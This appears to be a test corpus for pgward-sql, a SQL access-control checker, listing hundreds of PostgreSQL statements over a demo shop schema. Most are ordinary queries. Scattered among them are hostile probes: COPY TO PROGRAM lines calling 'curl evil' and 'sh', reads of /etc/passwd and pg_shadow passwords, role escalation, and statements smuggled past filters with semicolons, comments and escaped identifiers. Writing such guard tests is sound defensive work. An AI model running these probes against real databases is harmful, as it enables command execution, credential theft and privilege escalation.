-- The decision corpus: one statement (or multi-statement string) per line, over the demo
-- shop schema. Read by pgward-sql's pg_query superset test and by the differential test
-- against PostgreSQL (integration/tests/differential.rs). Lines starting with -- are comments.
INSERT INTO orders (id, total) VALUES (1, 2)
INSERT INTO orders VALUES (1, 2)
INSERT INTO orders (status) VALUES ($1), ($2)
INSERT INTO orders (id, note) VALUES (DEFAULT, 'x')
INSERT INTO orders DEFAULT VALUES
INSERT INTO orders (id) SELECT id FROM customers
INSERT INTO orders SELECT * FROM orders
INSERT INTO orders (note) VALUES ((SELECT email FROM customers LIMIT 1))
INSERT INTO orders (id) VALUES (1) RETURNING note
INSERT INTO orders AS o (id) VALUES (1) RETURNING o.*
INSERT INTO orders (nope) VALUES (1)
INSERT INTO orders VALUES (1,2,3,4,5,6,7)
INSERT INTO nope VALUES (1)
WITH orders AS (SELECT 1) INSERT INTO orders (nope) VALUES (1)
INSERT INTO orders (id, status) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET status = EXCLUDED.status
INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET note = orders.note || 'x' WHERE orders.total > 0
INSERT INTO orders (id) VALUES (1) ON CONFLICT DO NOTHING
INSERT INTO orders (id) VALUES (1) ON CONFLICT ON CONSTRAINT orders_pkey DO NOTHING
INSERT INTO orders (id) VALUES (1) ON CONFLICT ON CONSTRAINT orders_pkey DO UPDATE SET note = 'x'
INSERT INTO orders AS o (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET total = o.total + excluded.total
UPDATE orders SET status = 'x'
UPDATE orders SET status = 'x' WHERE id = 1
UPDATE orders SET note = note || 'x'
UPDATE orders o SET status = 'x' WHERE o.customer_id = 3 RETURNING o.total
UPDATE orders SET (status, note) = ('a', 'b')
UPDATE orders SET note = c.email FROM customers c WHERE c.id = orders.customer_id
UPDATE orders SET total = DEFAULT
UPDATE orders SET status = (SELECT max(email) FROM customers)
UPDATE orders SET nope = 1
UPDATE orders SET status = 1 WHERE CURRENT OF c
DELETE FROM orders
DELETE FROM orders WHERE id = 1
DELETE FROM orders o USING customers c WHERE c.id = o.customer_id AND c.email = 'x'
DELETE FROM orders RETURNING *
TRUNCATE orders
TRUNCATE TABLE orders, products RESTART IDENTITY
TRUNCATE orders CASCADE
TRUNCATE nope
MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DELETE
MERGE INTO orders o USING (SELECT id FROM customers) s ON o.id = s.id WHEN MATCHED THEN DO NOTHING
COPY orders (id, total) TO STDOUT
COPY orders TO STDOUT WITH (FORMAT csv, HEADER true)
COPY (SELECT email FROM customers) TO STDOUT
COPY orders (id, note) FROM STDIN
COPY orders FROM STDIN
COPY orders TO '/tmp/x'
COPY orders FROM '/etc/passwd'
COPY orders TO PROGRAM 'curl evil'
COPY (SELECT 1) TO PROGRAM 'sh'
COPY orders (nope) TO STDOUT
COPY orders (id) FROM STDIN; SELECT email FROM customers
SELECT "Id", password FROM "Mixed"
SELECT id FROM "Mixed"
SELECT 1 FROM mixed
SELECT 1 FROM Mixed
SELECT U&"p!0061ssword" UESCAPE '!' FROM "Mixed"
SELECT U&"p!+000061ssword" uescape '!' FROM "Mixed"
SELECT U&'d!0061t!+000061' UESCAPE '!', email FROM customers
SELECT U&"a" UESCAPE '+' FROM customers
SELECT U&"a" UESCAPE 'ab' FROM customers
SELECT "" FROM customers
SELECT id FROM customers -- , email
SELECT id /*, email */ FROM customers
SELECT id /* /* */ , email */ FROM customers
SELECT id /* /* */ */ , email FROM customers
SELECT /* -- */ email FROM customers
SELECT id /* unterminated FROM customers
SELECT id /* /* */ FROM customers
SELECT 'it''s, email' FROM customers
SELECT $x$ $y$ , email $x$ FROM customers
SELECT $x$a$x$, email FROM customers
SELECT $$ ' $$, id FROM customers
SELECT $$ ' $$, email FROM customers
SELECT N'x', X'1F', B'0101', email FROM customers
SELECT 'abc FROM customers
SELECT $q$abc FROM customers
SELECT 1 -/* c */ 2
SELECT id -/* x */ 1, email FROM customers
SELECT 1email FROM customers
SELECT 0x1F
SELECT $1abc
SELECT ssn FROM customers
SELECT ssn FROM secret.customers
SELECT ssn FROM "secret"."customers"
SELECT ssn FROM SECRET.CUSTOMERS
SELECT ssn FROM "SECRET".customers
SELECT c.ssn FROM secret.customers c JOIN public.customers p ON p.id = c.id
SELECT secret.customers.ssn FROM secret.customers
SELECT secret.customers.ssn FROM customers
SELECT relname FROM pg_class
SELECT relname FROM "pg_catalog".pg_class
SELECT set_config('search_path', 'secret', false)
SELECT pg_catalog.set_config('role', 'admin', false)
CREATE VIEW v AS SELECT lower(x) FROM t
INSERT INTO t VALUES (1)
SELECT id FROM orders
SELECT id, total FROM public.orders
SELECT 1 FROM orders
SELECT count(*) FROM orders
SELECT FROM orders
SELECT o.id FROM orders o
SELECT o.id FROM orders AS o
SELECT orders.id FROM orders
SELECT public.orders.id FROM orders
SELECT "id" FROM "orders"
SELECT customer_id, total FROM order_totals
SELECT id, ssn FROM secret.customers
SELECT id FROM customers WHERE email = 'x'
SELECT id FROM customers ORDER BY email
SELECT country FROM customers GROUP BY country, email
SELECT country FROM customers GROUP BY country HAVING max(email) > 'a'
SELECT sum(total) FILTER (WHERE note IS NULL) FROM orders
SELECT row_number() OVER (PARTITION BY email ORDER BY phone) FROM customers
SELECT rank() OVER w FROM customers WINDOW w AS (ORDER BY email)
SELECT DISTINCT ON (email) id FROM customers
SELECT id FROM customers LIMIT (SELECT count(*) FROM orders)
SELECT string_agg(name, ',' ORDER BY email) FROM customers
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total) FROM orders
SELECT CASE WHEN email LIKE '%@x' THEN 1 ELSE 0 END FROM customers
SELECT id FROM customers WHERE email IS NOT NULL
SELECT id FROM customers WHERE phone BETWEEN 'a' AND email
SELECT id FROM customers WHERE email IN ('a', 'b')
SELECT id FROM customers WHERE (email, phone) = ('a', 'b')
SELECT lower(email)::text FROM customers
SELECT substring(email from 2 for 3) FROM customers
SELECT position('@' in email) FROM customers
SELECT trim(both ' ' from email) FROM customers
SELECT extract(year from created_at) FROM customers
SELECT created_at AT TIME ZONE 'UTC' FROM orders
SELECT id FROM orders WHERE total > ALL (SELECT price FROM products)
SELECT ARRAY[email, phone] FROM customers
SELECT (ARRAY[email])[1] FROM customers
SELECT email COLLATE "C" FROM customers
SELECT id FROM customers WHERE email ~ '^a' OR email ILIKE 'b%'
SELECT id FROM customers FETCH FIRST 3 ROWS ONLY
SELECT id FROM customers OFFSET 2
SELECT id FROM customers WHERE email LIKE 'a%'
SELECT c.id FROM customers c JOIN orders o ON o.note = c.email
SELECT id, count(*) OVER (PARTITION BY email) FROM customers
SELECT max(length(email)) FROM customers
SELECT id FROM customers WHERE EXISTS (SELECT 1 WHERE email = 'x')
SELECT (SELECT email) FROM customers
WITH x AS (SELECT email FROM customers) SELECT 1
WITH x AS (SELECT email AS e FROM customers) SELECT count(*) FROM x
SELECT id FROM (SELECT id, email FROM customers) s
SELECT 1 FROM customers WHERE false AND email = 'x'
SELECT id FROM customers GROUP BY id HAVING bool_or(email = 'x')
SELECT id FROM customers UNION SELECT length(email) FROM customers
SELECT s.n FROM customers c, LATERAL (SELECT c.email AS n) s
SELECT id FROM customers c WHERE c.email IN (SELECT note FROM orders)
SELECT 1 FROM customers HAVING min(email) IS NOT NULL
SELECT id FROM customers WHERE email IS DISTINCT FROM phone
SELECT * FROM customers
SELECT c.* FROM customers c
SELECT customers.* FROM customers
SELECT c FROM customers c
SELECT row_to_json(c) FROM customers c
SELECT to_jsonb(customers) FROM customers
SELECT count(c.*) FROM customers c
TABLE customers
SELECT (c).email FROM customers c
SELECT * FROM customers NATURAL JOIN orders
SELECT 1 FROM customers NATURAL JOIN orders
SELECT x FROM (SELECT * FROM customers) x
SELECT * FROM (SELECT * FROM customers) s
SELECT * FROM orders, customers
COPY customers TO STDOUT
SELECT * FROM products
SELECT c.name, o.total FROM customers c JOIN orders o ON o.customer_id = c.id
SELECT c.name FROM customers c LEFT JOIN orders o ON o.customer_id = c.id
SELECT 1 FROM customers c RIGHT OUTER JOIN orders o ON true
SELECT 1 FROM customers c FULL JOIN orders o ON c.id = o.id
SELECT 1 FROM customers CROSS JOIN products
SELECT id FROM customers JOIN orders USING (id)
SELECT created_at FROM customers JOIN orders USING (id, created_at)
SELECT j.email FROM (customers JOIN orders USING (id)) AS j
SELECT j.* FROM (customers c JOIN orders o ON c.id = o.customer_id) AS j
SELECT 1 FROM (customers c JOIN orders o ON c.id = o.customer_id) JOIN products p ON p.id = o.id
SELECT id FROM customers JOIN orders ON true
SELECT created_at FROM customers, orders
SELECT 1 FROM customers JOIN orders USING (email)
SELECT 1 FROM customers c JOIN orders o ON c.id = x.id
SELECT id FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE country = 'NL')
SELECT id FROM orders o WHERE EXISTS (SELECT FROM customers c WHERE c.id = o.customer_id)
SELECT (SELECT max(total) FROM orders o WHERE o.customer_id = c.id) FROM customers c
SELECT id FROM orders WHERE total = ANY (SELECT price FROM products)
SELECT * FROM customers c, LATERAL (SELECT total FROM orders o WHERE o.customer_id = c.id) t
WITH big AS (SELECT customer_id FROM orders WHERE total > 100) SELECT count(*) FROM big
WITH a AS (SELECT id FROM customers), b AS (SELECT id FROM a) SELECT * FROM b
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT n FROM r
WITH RECURSIVE r AS (SELECT id FROM customers UNION SELECT o.customer_id FROM orders o JOIN r ON r.id = o.id) SELECT * FROM r
WITH d AS (DELETE FROM orders WHERE status = 'x' RETURNING id) SELECT count(*) FROM d
WITH u AS (UPDATE orders SET status = 'y' RETURNING *) SELECT 1
WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT * FROM i
WITH customers AS (SELECT 1 AS id) SELECT id FROM customers
WITH x AS (SELECT 1 AS a) SELECT id FROM public.customers, x
SELECT v.column1 FROM (VALUES (1), (2)) AS v
SELECT a FROM (VALUES (1, 2)) AS v(a, b)
SELECT email FROM (SELECT id FROM customers) s
WITH x AS (SELECT id FROM customers) SELECT email FROM x
SELECT id FROM customers UNION SELECT id FROM orders
SELECT id FROM customers INTERSECT SELECT customer_id FROM orders
SELECT id FROM customers EXCEPT ALL SELECT customer_id FROM orders ORDER BY id
VALUES (1, 'a'), (2, 'b')
SELECT 1
SELECT now()
SELECT current_user, current_date, CURRENT_TIMESTAMP
SELECT coalesce(email, phone) FROM customers
SELECT nullif(email, ''), greatest(1, 2) FROM customers
SELECT ROW(email, phone) FROM customers
SELECT ROW(1, 2)
SELECT ARRAY(SELECT email FROM customers)
SELECT email AS e FROM customers ORDER BY e
SELECT id FROM customers ORDER BY 1
SELECT country AS c, count(*) FROM customers GROUP BY c
SELECT id FROM orders FOR UPDATE
SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id FOR SHARE OF o
SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id FOR UPDATE OF o
SELECT * FROM (SELECT id FROM orders) s FOR UPDATE
SELECT ctid FROM orders
SELECT xmin, xmax, cmin, cmax, tableoid FROM orders
SELECT ctid FROM order_totals
SELECT lower(name) FROM customers
SELECT pg_catalog.lower(name) FROM customers
SELECT public.place_order(1)
SELECT place_order(1)
SELECT unknown_fn(1)
SELECT query_to_xml('select * from secret.customers', true, true, '')
SELECT * FROM ts_stat('SELECT to_tsvector(ssn) FROM secret.customers')
SELECT pg_read_file('/etc/passwd')
SELECT pg_ls_dir('.')
SELECT lo_import('/etc/passwd')
SELECT lo_get(16400)
SELECT pg_sleep(10)
SELECT nextval('orders_id_seq')
SELECT dblink('host=x', 'select 1')
SELECT pg_terminate_backend(1)
SELECT "lower"(name) FROM customers
SELECT LOWER(name) FROM customers
SELECT * FROM generate_series(1, 3) g WHERE g > 1
SELECT g.x FROM generate_series(1, 3) AS g(x)
SELECT * FROM customers c, LATERAL generate_series(1, c.id) n
SELECT u FROM unnest(ARRAY[1,2]) AS u
SELECT * FROM unnest(ARRAY[1,2]) WITH ORDINALITY AS u(x, n)
SELECT current_setting('search_path')
SELECT a.b.c.d(1)
SELECT relname FROM pg_catalog.pg_class
SELECT * FROM pg_namespace
SELECT table_name FROM information_schema.tables
SELECT * FROM pg_stats
SELECT c.relname, n.nspname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace WHERE pg_table_is_visible(c.oid)
SELECT format_type(atttypid, atttypmod) FROM pg_attribute
SELECT * FROM tables
SELECT emial FROM customers
SELECT id FROM custmers
SELECT id FROM nope.customers
SELECT x.id FROM customers c
SELECT customers.id FROM customers c
SELECT c.nope FROM customers c
SELECT db.public.customers.id FROM customers
SELECT id FROM other_db.public.customers
SELECT "Email" FROM customers
SELECT * INTO newtab FROM customers
BEGIN
BEGIN ISOLATION LEVEL SERIALIZABLE
START TRANSACTION READ ONLY
COMMIT
ROLLBACK
SAVEPOINT s1
RELEASE SAVEPOINT s1
ROLLBACK TO SAVEPOINT s1
PREPARE TRANSACTION 'gid1'
COMMIT PREPARED 'gid1'
ROLLBACK PREPARED 'gid1'
SHOW search_path
SHOW ALL
SET application_name = 'psql'
SET TIME ZONE 'UTC'
SET TimeZone TO 'Europe/Amsterdam'
SET LOCAL statement_timeout = 5000
SET statement_timeout TO DEFAULT
SET extra_float_digits = 3
SET DateStyle = 'ISO, MDY'
SET client_min_messages TO warning
SET client_encoding TO 'UTF8'
SET client_encoding = 'LATIN1'
SET NAMES 'UTF8'
SET TRANSACTION ISOLATION LEVEL REPEATABLE READ
SET TRANSACTION READ ONLY
SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE
SET default_transaction_read_only = on
RESET statement_timeout
RESET TimeZone
LISTEN orders_changed
UNLISTEN orders_changed
NOTIFY orders_changed, 'x'
DISCARD PLANS
DISCARD SEQUENCES
DISCARD TEMP
DEALLOCATE p1
DEALLOCATE ALL
FETCH 10 FROM c1
FETCH NEXT FROM c1
MOVE NEXT FROM c1
MOVE FORWARD 5 IN c1
CLOSE c1
CLOSE ALL
VALUES (1)
PREPARE p1 (int) AS SELECT email FROM customers WHERE id = $1
PREPARE p2 AS UPDATE orders SET status = $1
EXECUTE p1(1)
EXECUTE p1(pg_read_file('x'))
DECLARE c1 CURSOR FOR SELECT email FROM customers
DECLARE c1 CURSOR WITH HOLD FOR SELECT email FROM customers
EXPLAIN SELECT email FROM customers
EXPLAIN ANALYZE SELECT email FROM customers
EXPLAIN (ANALYZE, BUFFERS) DELETE FROM orders
EXPLAIN ANALYZE SELECT emial FROM customers
PREPARE p AS SET ROLE admin
CALL place_order(1, 2)
CALL public.place_order((SELECT max(id) FROM orders))
CREATE TABLE t (id int)
CREATE TEMP TABLE t (id int)
CREATE INDEX ON orders (status)
CREATE VIEW v AS SELECT email FROM customers
CREATE SCHEMA s
CREATE SEQUENCE s1
CREATE ROLE r
CREATE EXTENSION dblink
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$
ALTER TABLE orders ADD COLUMN x int
ALTER ROLE r SUPERUSER
DROP TABLE orders
DROP FUNCTION f
COMMENT ON TABLE orders IS 'x'
GRANT SELECT ON customers TO public
REVOKE SELECT ON customers FROM public
GRANT admin TO me
CREATE TABLE t AS SELECT email FROM customers
CREATE MATERIALIZED VIEW mv AS SELECT email FROM customers
SET search_path = secret, public
SET search_path TO DEFAULT
SET LOCAL search_path = secret
SET standard_conforming_strings = off
SET session_replication_role = replica
SET role = admin
SET ROLE admin
SET SESSION AUTHORIZATION admin
RESET ALL
RESET search_path
RESET ROLE
RESET SESSION AUTHORIZATION
DISCARD ALL
SET client_encoding = 'SJIS'
SET client_encoding TO 'BIG5'
SET client_encoding = GBK
SET client_encoding = 'UHC'
SET client_encoding = 'GB18030'
SET NAMES 'SJIS'
SET work_mem = '1GB'
SET myapp.tenant = '1'
SET statement_timeout = pg_sleep(1)
DO $$ BEGIN PERFORM 1; END $$
LOAD 'plpgsql'
LOCK TABLE orders
VACUUM orders
ANALYZE orders
ALTER SYSTEM SET work_mem = '1GB'
SHOW TABLES
SET TRANSACTION SNAPSHOT '0001'
BEGIN; SELECT id FROM orders; COMMIT
SELECT id FROM orders; SELECT email FROM customers
SELECT id FROM orders; SET ROLE admin
SET ROLE
SELECT id FROM orders; SELEC 1
SELECT id FROM orders; DO $$ $$
SELECT 'a;b'; SELECT $$;$$; SELECT 1 /* ; */
SELECT id FROM orders WHERE note = 'secret' AND total > 10.5; SELECT $x$hidden$x$
SELECT id FROM orders WHERE note = ? AND total > ?
SELECT ?
SELECT id, customer_id, total, status, created_at FROM orders
SELECT id, total FROM orders WHERE status = 'paid' ORDER BY created_at DESC LIMIT 10
SELECT status, count(*), sum(total) FROM orders GROUP BY status ORDER BY status
SELECT o.id, c.country FROM orders o JOIN customers c ON c.id = o.customer_id
SELECT o.id, c.email FROM orders o JOIN customers c ON c.id = o.customer_id
SELECT o.note FROM orders o
SELECT c.name, c.email FROM customers c WHERE c.id = 3
SELECT phone FROM customers
SELECT id, name, email, country, created_at FROM customers
SELECT country, count(*) FROM customers GROUP BY country
SELECT id FROM customers WHERE phone IS NULL
SELECT customer_id, order_count FROM order_totals
SELECT * FROM order_totals
SELECT name, price FROM products WHERE stock > 0 ORDER BY price
SELECT p.name, o.total FROM products p, orders o WHERE p.id = o.id
WITH recent AS (SELECT id, total FROM orders WHERE created_at > now() - interval '30 days') SELECT sum(total) FROM recent
WITH c AS (SELECT id, email FROM customers) SELECT id FROM c
WITH c AS (SELECT id, country FROM customers) SELECT country, count(*) FROM c GROUP BY country
SELECT id FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE email LIKE '%@example.com')
SELECT id FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = o.customer_id AND c.country = 'GB')
SELECT (SELECT count(*) FROM orders o WHERE o.customer_id = c.id) FROM customers c
SELECT c.id, t.total FROM customers c CROSS JOIN LATERAL (SELECT total FROM orders o WHERE o.customer_id = c.id ORDER BY total DESC LIMIT 1) t
SELECT id, rank() OVER (PARTITION BY status ORDER BY total DESC) FROM orders
SELECT id, sum(total) OVER (ORDER BY created_at ROWS BETWEEN 2 PRECEDING AND CURRENT ROW) FROM orders
SELECT id, lag(note) OVER (ORDER BY id) FROM orders
SELECT json_agg(o) FROM orders o
SELECT row_to_json(p) FROM products p
SELECT jsonb_build_object('id', id, 'total', total) FROM orders
SELECT upper(country), length(country) FROM customers
SELECT date_trunc('month', created_at), count(*) FROM orders GROUP BY 1 ORDER BY 1
SELECT to_char(created_at, 'YYYY-MM') FROM orders
SELECT round(avg(total), 2) FROM orders
SELECT id FROM orders ORDER BY note
SELECT id FROM orders WHERE note IS NOT NULL
SELECT count(DISTINCT customer_id) FROM orders
SELECT id FROM customers UNION ALL SELECT id FROM products
SELECT email FROM customers UNION SELECT name FROM products
SELECT ctid, id FROM products
SELECT xmin FROM customers
SELECT tableoid::regclass FROM orders
SELECT pg_get_viewdef('order_totals'::regclass)
SELECT format_type(23, NULL)
SELECT current_setting('data_directory')
SELECT current_setting('server_version')
SELECT version()
SELECT pg_backend_pid()
SELECT nextval('orders_id_seq'::regclass)
SELECT currval('orders_id_seq')
SELECT setval('orders_id_seq', 1)
SELECT public.place_order(1, 1, 0)
SELECT place_order(1, 1, 0)
SELECT pg_read_file('postgresql.conf')
SELECT pg_ls_dir('/')
SELECT lo_export(1, '/tmp/x')
SELECT set_config('search_path', 'public', false)
SELECT pg_sleep(0)
SELECT query_to_xml('SELECT email FROM customers', true, true, '')
SELECT * FROM pg_stats WHERE tablename = 'customers'
SELECT * FROM pg_statistic
SELECT attname FROM pg_attribute WHERE attrelid = 'customers'::regclass
SELECT relname, relkind FROM pg_class WHERE relnamespace = 'public'::regnamespace
SELECT column_name FROM information_schema.columns WHERE table_name = 'customers'
SELECT * FROM pg_roles
SELECT rolname FROM pg_authid
SELECT usename, passwd FROM pg_shadow
SELECT * FROM pg_user_mappings
INSERT INTO orders (customer_id, total, status) VALUES (1, 10.00, 'new')
INSERT INTO orders (customer_id, total, status) VALUES (1, 10.00, 'new') RETURNING id
INSERT INTO orders (customer_id, total, status) VALUES (1, 10.00, 'new') RETURNING *
INSERT INTO orders (customer_id, total) VALUES (2, 5) RETURNING id, created_at
INSERT INTO orders (customer_id, total, status, note) SELECT customer_id, total, status, note FROM orders WHERE id = 1
INSERT INTO orders (id, customer_id, total) VALUES (1, 1, 1) ON CONFLICT (id) DO NOTHING
INSERT INTO orders (id, customer_id, total) VALUES (1, 1, 1) ON CONFLICT (id) DO UPDATE SET status = EXCLUDED.status
INSERT INTO orders (id, customer_id, total) VALUES (1, 1, 1) ON CONFLICT (id) DO UPDATE SET total = EXCLUDED.total
INSERT INTO orders (id, customer_id, total) VALUES (1, 1, 1) ON CONFLICT (id) DO UPDATE SET note = 'dup' RETURNING id
INSERT INTO customers (name, email, country) VALUES ('x', 'x@example.com', 'GB')
INSERT INTO customers (name, email, country) VALUES ('x', 'x@example.com', 'GB') RETURNING id
INSERT INTO products (name, price, stock) VALUES ('thing', 1, 1)
INSERT INTO order_totals (customer_id) VALUES (1)
UPDATE orders SET status = 'paid' WHERE id = 1
UPDATE orders SET status = 'paid' WHERE id = 1 RETURNING id, status
UPDATE orders SET status = 'paid' WHERE id = 1 RETURNING note
UPDATE orders SET note = 'gift' WHERE id = 2
UPDATE orders SET total = 0 WHERE id = 1
UPDATE orders SET status = 'shipped' WHERE customer_id IN (SELECT id FROM customers WHERE country = 'NL')
UPDATE orders SET status = 'shipped' WHERE customer_id IN (SELECT id FROM customers WHERE email = 'a@b')
UPDATE orders o SET status = 'cancelled' FROM customers c WHERE c.id = o.customer_id AND c.country = 'SE'
UPDATE orders SET status = status WHERE note = 'x'
UPDATE customers SET email = 'y' WHERE id = 1
UPDATE products SET stock = stock - 1 WHERE id = 1
DELETE FROM orders WHERE id = 60
DELETE FROM orders WHERE id = 60 RETURNING id
DELETE FROM orders WHERE status = 'cancelled' RETURNING *
DELETE FROM orders o USING customers c WHERE c.id = o.customer_id AND c.country = 'FR'
DELETE FROM customers WHERE id = 30
DELETE FROM products WHERE stock = 0
TRUNCATE products
WITH moved AS (DELETE FROM orders WHERE status = 'cancelled' RETURNING id, total) SELECT count(*), sum(total) FROM moved
WITH u AS (UPDATE orders SET status = 'paid' WHERE id = 3 RETURNING id) SELECT id FROM u
WITH n AS (INSERT INTO orders (customer_id, total) VALUES (1, 1) RETURNING id) SELECT id FROM n
MERGE INTO orders o USING (VALUES (1, 'paid')) AS v(id, status) ON o.id = v.id WHEN MATCHED THEN UPDATE SET status = v.status
MERGE INTO orders o USING (VALUES (1, 'paid')) AS v(id, status) ON o.id = v.id WHEN MATCHED THEN DELETE
MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN NOT MATCHED THEN INSERT (customer_id, total) VALUES (c.id, 0)
EXPLAIN SELECT id FROM orders
EXPLAIN SELECT note FROM orders
EXPLAIN UPDATE orders SET status = 'x' WHERE id = 1
SET ROLE migrator
SET SESSION AUTHORIZATION migrator
CREATE TABLE scratch (id int)
GRANT SELECT ON customers TO analyst
SELECT id FROM orders; SELECT id FROM products
SELECT 1; DELETE FROM orders
SELECT id FROM orders WHERE id = 1 /* ; SELECT email FROM customers */
SELECT 'a; SELECT email FROM customers' FROM orders
SELECT $$; SELECT email FROM customers$$ FROM orders
SELECT "customers"."email" FROM "customers"
SELECT CUSTOMERS.EMAIL FROM CUSTOMERS
SELECT id FROM public."customers" WHERE "country" = 'GB'
SELECT id FROM pg_catalog.pg_class LIMIT 1
SELECT t.id FROM (TABLE products) t
SELECT count(*) FROM customers c NATURAL JOIN orders o
SELECT id FROM customers c WHERE c IS NOT NULL
SELECT id FROM orders WHERE (total, status) IN (SELECT price, name FROM products)
SELECT generate_series(1, 3)
SELECT array_agg(id ORDER BY id) FROM products
SELECT string_agg(name, ', ') FROM products
SELECT coalesce(note, '-') FROM orders
SELECT id FROM orders WHERE created_at BETWEEN '2024-01-01' AND '2024-12-31'
SELECT id::text || status FROM orders
SELECT id FROM orders FOR UPDATE SKIP LOCKED
